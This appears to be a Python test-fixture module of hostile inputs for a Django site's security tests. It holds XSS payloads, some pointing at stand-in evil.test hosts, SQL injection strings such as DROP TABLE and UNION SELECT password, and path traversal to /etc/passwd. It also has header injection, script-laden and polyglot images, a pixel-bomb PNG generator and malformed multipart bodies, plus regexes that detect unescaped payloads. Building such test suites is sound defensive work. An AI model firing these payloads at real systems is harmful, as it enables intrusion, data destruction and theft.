"""What a hostile or careless visitor sends: strings, bytes, images and broken request bodies.

Written for Backlot in the manner of the "big list of naughty strings", nothing downloaded. Each
entry has a name (the test ids and failure messages use it). Markup payloads carry "hx-" and
their name, so that a leak names the payload that leaked.

- ``STRINGS``: what a form field, a query parameter or a path segment receives.
- ``MARKUP``: the subset that is markup or a script address, which must only ever be shown
  escaped; ``DANGER_TAGS`` and ``DANGER_ATTRIBUTES`` appear in a page only if one was not.
- ``INVALID_UTF8``: byte sequences no UTF-8 decoder accepts (a lone surrogate among them).
- ``IMAGES`` and ``FILE_NAMES``: uploads that are not the image they claim to be, or hide
  something, and names no stored file may keep.
- ``ARTICLES``: files given to the article importer.
- ``multipart_bodies()``: request bodies that are not valid multipart/form-data.
- ``DRILLDOWNS``: an admin list's date drill-down past the calendar.
"""

import io
import re
import struct
import zlib

from PIL import Image

HUNDRED_THOUSAND = 100_000

MARKUP = {
    "script": '<script>alert("hx-script")</script>',
    "img onerror": '"><img src=x onerror=alert("hx-img")>',
    "svg onload": "<svg/onload=alert('hx-svg')>",
    "single-quoted attribute": "' onmouseover='alert(1)' data-hx='attribute",
    "iframe": '<iframe src="javascript:alert(`hx-iframe`)"></iframe>',
    "style": "<style>body{display:none}</style><b>hx-style</b>",
    "closing textarea": '</textarea><script>alert("hx-textarea")</script>',
    "closing title": '</title><script>alert("hx-title")</script>',
    "closing script": '</script><script>alert("hx-close")</script>',
    "json breakout": '"}]}</script><script>alert("hx-json")</script>',
    "card slot and comment": "<!--vote--><!-- hx-comment -->",
    "cdata": "]]><hx-cdata/><![CDATA[",
    "escaped entity": "&lt;script&gt;alert(&quot;hx-entity&quot;)&lt;/script&gt;",
    "javascript url": 'javascript:alert("hx-js")',
    "javascript url mixed case": " JaVaScRiPt:alert('hx-js2')//",
    "data url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "address breaking out": 'https://example.org/"><script>alert("hx-link")</script>',
    "address with a tag": "http://x.test/<img src=x onerror=alert('hx-link2')>",
    "markdown link": '[click](javascript:alert("hx-md"))',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.test/hx">',
    "form": '<form action="https://evil.test/hx"><input name=password></form>',
    "base": '<base href="https://evil.test/hx/">',
    "event attribute": '<a href="#" onclick="alert(`hx-a`)">hx</a>',
}

CONTROL = {
    "nul": "\x00",
    "nul in the middle": "before\x00after",
    "bell": "ring \x07 ring",
    "terminal escape": "\x1b[31mred\x1b[0m",
    "backspaces": "abc\x08\x08\x08xyz",
    "delete": "delete\x7f",
    "next line (C1)": "next\x85line",
    "vertical tab and form feed": "tab\x0bfeed\x0c",
    "header injection": "value\r\nSet-Cookie: hx=1",
}

SIZE = {
    "100,000 characters": "A" * HUNDRED_THOUSAND,
    "100,000 characters of words": "word " * (HUNDRED_THOUSAND // 5),
    "one 5,000-letter word": "x" * 5_000,
    "2,000 lines": "line\n" * 2_000,
    "1,501 characters": "b" * 1_501,
    "100,000 accented characters": "é" * HUNDRED_THOUSAND,
}

UNICODE = {
    "right-to-left override": "\u202eexe.gnp\u202c photo",
    "bidi isolate": "\u2066hx\u2069 isolated",
    "zero-width characters": "in\u200bvis\u200cible\u200djoin\u2060er\ufeff",
    "combining marks": "Z\u0335\u0321\u0322\u0347\u034e\u0344a\u0337l\u0336g\u0336o\u0338",
    "NFC é": "Am\u00e9lie",
    "NFD é": "Ame\u0301lie",
    "Cyrillic look-alike": "\u0410m\u00e9lie",
    "Greek look-alike": "\u0391\u03bc\u03b5lie",
    "fullwidth": "\uff21\uff4d\uff45\uff4c\uff49\uff45",
    "emoji": "\U0001f3ac\U0001f37f \U0001f468\u200d\U0001f469\u200d\U0001f467"
    " \U0001f3f3\ufe0f\u200d\U0001f308",
    "flag": "\U0001f1eb\U0001f1f7",
    "astral letters": "\U0001d518\U0001d51e\U0001d52f",
    "noncharacters": "\ufffe\uffff",
    "private use": "\ue000\uf8ff",
    "replacement character": "\ufffd",
    "dotted and dotless i": "\u0130stanbul \u0131i",
    "sharp s": "Stra\u00dfe STRASSE",
    "ligature": "\ufb01lm",
    "superscript digits": "\u00b2\u00b3",
    "Arabic-Indic digits": "\u0661\u0662\u0663",
    "no-break and ideographic spaces": "\u00a0\u3000",
}

INJECTION = {
    "SQL quote": "'; DROP TABLE trivia_anecdote; --",
    "SQL tautology": "' OR '1'='1",
    "SQL union": "1 UNION SELECT password FROM accounts_user--",
    "SQL sleep": "'); SELECT pg_sleep(5); --",
    "LIKE wildcards": "%_%\\",
    "FTS5 syntax": 'NEAR(a b) AND "x" OR * ^ - title:*',
    "tsquery syntax": "a & !b | c:* <-> d",
    "format strings": "%s%s%s%n%x{0}{}%(name)s",
    "template syntax": "{{ 7*7 }}",
    "template tag": "{% debug %}",
    "other template syntaxes": "${7*7} #{7*7} <%= 7*7 %>",
    "path traversal": "../../../../etc/passwd",
    "windows path traversal": "..\\..\\windows\\win.ini",
    "encoded traversal": "%2e%2e%2f%2e%2e%2f",
    "encoded NUL": "%00",
    "None": "None",
    "null": "null",
    "minus one": "-1",
    "zero": "0",
    "huge number": "9" * 30,
    "float overflow": "1e309",
    "hex": "0x10",
    "email address": "<a@b.test>",
    "empty": "",
    "spaces": "   ",
    "newlines": "\n\n\n",
    "tabs": "\t\t",
}

STRINGS = {**MARKUP, **CONTROL, **SIZE, **UNICODE, **INJECTION}

# A few of each kind: for fields that hold an id, a choice, a date or a key, where the rest
# teaches nothing more.
SHORT_LIST = [
    "script",
    "img onerror",
    "javascript url",
    "nul",
    "nul in the middle",
    "bell",
    "100,000 characters",
    "right-to-left override",
    "NFD é",
    "Cyrillic look-alike",
    "emoji",
    "superscript digits",
    "Arabic-Indic digits",
    "SQL quote",
    "format strings",
    "template syntax",
    "path traversal",
    "minus one",
    "huge number",
    "float overflow",
    "empty",
    "spaces",
]
SHORT = {name: STRINGS[name] for name in SHORT_LIST}

# What appears in a page only if a payload was not escaped: a tag or an attribute the site
# never writes itself. Checked on every page and feed the hostile suite reads; in XML, where
# the writer leaves quotes in text as they are, only what starts with a "<" (``DANGER_TAGS``).
DANGER_TAGS = re.compile(
    r"<script>alert|<(?:img|svg|iframe|a|body)\b[^>]*\son[a-z]+\s*=|<svg/onload"
    r"|<meta http-equiv=\"refresh\" content=\"0;url=https://evil"
    r"|<base href=\"https://evil|<form action=\"https://evil|<style>body\{display:none\}"
    r"|<!-- hx-comment -->|<hx-cdata/>",
    re.IGNORECASE,
)
DANGER_ATTRIBUTES = re.compile(
    r"(?:href|src|action|formaction)\s*=\s*[\"']?\s*(?:javascript|data|vbscript):", re.IGNORECASE
)

INVALID_UTF8 = {
    "lone surrogate": b"\xed\xa0\x80",
    "byte-order mark of UTF-16": b"\xff\xfe",
    "truncated sequence": b"\xe2\x82",
    "overlong slash": b"\xc0\xaf",
    "Latin-1 é": "Amélie".encode("latin-1"),
    "lone continuation bytes": b"\x80\x81\x82",
}


# --- Images -------------------------------------------------------------------------------


def png(size=(48, 32), color=(180, 40, 40), **options):
    buffer = io.BytesIO()
    Image.new("RGB", size, color).save(buffer, "PNG", **options)
    return buffer.getvalue()


def jpeg_with_comment(comment):
    buffer = io.BytesIO()
    Image.new("RGB", (48, 32), (40, 40, 180)).save(buffer, "JPEG", comment=comment)
    return buffer.getvalue()


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width, height):
    """A valid 1-bit PNG of ``width`` × ``height`` black pixels: a few kilobytes that would
    decode into hundreds of megabytes."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (1 + (width + 7) // 8)
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", body)
        + _chunk(b"IEND", b"")
    )


def png_with_text_chunk(text):
    """A PNG carrying ``text`` in a tEXt chunk, before its end."""
    data = png()
    end = data.rindex(b"IEND") - 4
    return data[:end] + _chunk(b"tEXt", b"Comment\x00" + text) + data[end:]


SCRIPT = b"<script>alert('hx-image')</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'
# (bytes, file name, whether a careful site keeps it as an image, re-encoded)
IMAGES = {
    "PNG with HTML appended": (png() + b"<html>" + SCRIPT, "holiday.png", True),
    "PNG with a script in a text chunk": (png_with_text_chunk(SCRIPT), "chunk.png", True),
    "JPEG with a script in its comment": (jpeg_with_comment(SCRIPT), "comment.jpg", True),
    "SVG with a script": (SVG, "a.svg", False),
    "SVG named .png": (SVG, "a.png", False),
    "GIF and script polyglot": (b"GIF89a/*" + SCRIPT + b"*/=1;", "poly.gif", False),
    "HTML named .jpg": (b"<html><body>" + SCRIPT + b"</body></html>", "page.jpg", False),
    "empty file": (b"", "empty.png", False),
    "truncated PNG": (png()[:50], "cut.png", False),
    "PNG header only": (b"\x89PNG\r\n\x1a\n", "header.png", False),
    "20,000 × 20,000 pixel bomb": (png_claiming(20_000, 20_000), "bomb.png", False),
    "PDF named .png": (b"%PDF-1.4\n%" + SCRIPT, "doc.png", False),
    "valid PNG named .html": (png(), "image.html", True),
}

# Names a browser may send with a valid image; none of them may survive into a stored name.
FILE_NAMES = {
    "path traversal": "../../../etc/passwd.png",
    "markup": '<img src=x onerror=alert("hx-name")>.png',
    "NUL": "photo.png\x00.html",
    "300 characters": "p" * 300 + ".png",
    # Past Django's limit for a part's headers: the body is refused before any view runs.
    "5,000 characters": "p" * 5_000 + ".png",
    "right-to-left override": "photo\u202egnp.exe",
    "Windows path": "C:\\Users\\me\\photo.png",
    "only dots": "...",
    "empty": "",
}

# An admin list's date drill-down ({field}__year, __month, __day) naming no date there is:
# the list's "invalid filter" page, never a 500.
DRILLDOWNS = {
    "year 99999999": {"year": "99999999"},
    "year 10**30": {"year": str(10**30)},
    "year 0": {"year": "0"},
    "month 13": {"year": "2024", "month": "13"},
    "month 10**30": {"year": "2024", "month": str(10**30)},
    "day 0": {"year": "2024", "month": "5", "day": "0"},
    "31 February": {"year": "2024", "month": "2", "day": "31"},
    "the last month of 9999": {"year": "9999", "month": "12"},
    "the last day of 9999": {"year": "9999", "month": "12", "day": "31"},
    "the year 9999": {"year": "9999"},
    "superscript year": {"year": "\u00b2\u00b3"},
}

# Files for the article importer: (bytes, name, whether they are refused).
ARTICLES = {
    "a PNG": (png(), "article.txt", True),
    "a PDF": (b"%PDF-1.4 not an article", "article.txt", True),
    "a ZIP": (b"PK\x03\x04rest", "article.txt", True),
    "UTF-16": ("Ten stories".encode("utf-16"), "article.txt", True),
    "Latin-1": ("Les coulisses d'Amélie\n\nUne histoire.".encode("latin-1"), "a.txt", True),
    "NUL bytes": (b"Title\n\nA story\x00with a NUL.", "article.txt", True),
    "lone surrogate bytes": (b"Title\n\nA story \xed\xa0\x80 here.", "article.txt", True),
    "empty": (b"", "article.txt", True),
    "only whitespace": (b"  \n\n\t  \n", "article.txt", True),
    "over 1 MB": (b"word " * 210_000, "article.txt", True),
    "markup everywhere": (
        b"<script>alert('hx-article')</script>\n\n"
        b"1. <img src=x onerror=alert('hx-heading')>\n\n"
        b"The crew <b>really</b> shot it at night. </textarea><script>alert(1)</script>\n\n"
        b'2. "><svg/onload=alert(1)>\n\n'
        b"Another story, with a bell \x07 and an escape \x1b[0m inside.\n",
        "article.txt",
        False,
    ),
    "with a BOM and CRLF": (
        b"\xef\xbb\xbfTitle\r\n\r\n1. Heat\r\n\r\nA story.\r\n",
        "a.txt",
        False,
    ),
}


def multipart_bodies(boundary="hxboundary"):
    """Request bodies that are not valid multipart/form-data, each with the Content-Type it
    is sent with: (name, body, content type, extra environ)."""
    good_type = f"multipart/form-data; boundary={boundary}"

    def part(name, value, extra=""):
        return (
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"{extra}\r\n\r\n'
            f"{value}\r\n"
        ).encode()

    end = f"--{boundary}--\r\n".encode()
    field = part("text", "A story.")
    return [
        ("no boundary", field + end, "multipart/form-data", {}),
        ("boundary with markup", field + end, 'multipart/form-data; boundary="<hx>"', {}),
        ("other boundary", field + end, "multipart/form-data; boundary=somethingelse", {}),
        ("no final boundary", field, good_type, {}),
        ("cut in a part", field[:30], good_type, {}),
        ("no part name", part("", "x").replace(b'name=""', b"") + end, good_type, {}),
        (
            "file without a name",
            (
                f'--{boundary}\r\nContent-Disposition: form-data; filename="x.png"\r\n'
                "Content-Type: image/png\r\n\r\n"
            ).encode()
            + png()
            + b"\r\n"
            + end,
            good_type,
            {},
        ),
        ("100,000-character name", part("n" * HUNDRED_THOUSAND, "x") + end, good_type, {}),
        ("NUL in a name", part("te\x00xt", "x") + end, good_type, {}),
        (
            "invalid UTF-8 in a value",
            part("text", "").replace(b"\r\n\r\n\r\n", b"\r\n\r\n\xff\xfe\xed\xa0\x80\r\n") + end,
            good_type,
            {},
        ),
        (
            "invalid base64 part",
            (
                f'--{boundary}\r\nContent-Disposition: form-data; name="text"\r\n'
                "Content-Transfer-Encoding: base64\r\n\r\n!!!not base64!!!\r\n"
            ).encode()
            + end,
            good_type,
            {},
        ),
        (
            "encoded file name with invalid UTF-8",
            (
                f'--{boundary}\r\nContent-Disposition: form-data; name="image"; '
                "filename*=UTF-8''%FF%FE.png\r\nContent-Type: image/png\r\n\r\n"
            ).encode()
            + png()
            + b"\r\n"
            + end,
            good_type,
            {},
        ),
        ("2,000 fields", b"".join(part(f"f{i}", "x") for i in range(2_000)) + end, good_type, {}),
        (
            "200 files",
            b"".join(part(f"f{i}", "x", '; filename="a.txt"') for i in range(200)) + end,
            good_type,
            {},
        ),
        ("3 MB field", part("text", "x" * 3_000_000) + end, good_type, {}),
        ("negative length", field + end, good_type, {"CONTENT_LENGTH": "-1"}),
        ("length not a number", field + end, good_type, {"CONTENT_LENGTH": "many"}),
        ("urlencoded invalid UTF-8", b"text=%FF%FE%ED%A0%80&tags=\xff", None, {}),
        ("urlencoded 2,000 fields", "&".join(f"f{i}=x" for i in range(2_000)).encode(), None, {}),
    ]
